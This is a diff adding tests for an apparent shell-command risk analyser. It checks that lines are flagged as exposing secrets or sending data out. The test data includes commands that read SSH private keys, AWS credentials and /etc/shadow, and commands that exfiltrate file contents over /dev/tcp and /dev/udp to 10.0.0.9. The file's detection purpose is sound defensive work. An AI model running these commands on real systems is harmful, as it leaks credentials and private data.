@@ -207,3 +207,26 @@ describe('a path that only the shell there will tell', () => {
     },
   );
 });
+
+test.each([
+  'cat $HOME/.ssh/id_rsa',
+  'cat "${HOME}/.aws/credentials"',
+  'cd /etc; cat $PWD/shadow',
+  'cat <>/etc/shadow',
+])('%s shows a secret', (line) => {
+  expect(analyse(line).exposes).toBe(true);
+});
+
+test('a variable that was assigned is no longer the home or the working directory', () => {
+  expect(analyse('PWD=/srv; cd /etc; cat $PWD/shadow').exposes).toBe(false);
+});
+
+test.each([
+  'cat /srv/x > /dev/tcp/10.0.0.9/80',
+  'H=10.0.0.9; cat /srv/x > /dev/udp/$H/80',
+  'cat /srv/x > /dev/tcp/$H/$P',
+  'exec 3<>/dev/tcp/10.0.0.9/80; cat /srv/x >&3',
+  'f() { cat /srv/x; } > /dev/tcp/10.0.0.9/80; f',
+])('%s sends what it writes', (line) => {
+  expect(analyse(line)).toMatchObject({ risk: 'MUTATE', sends: true });
+});
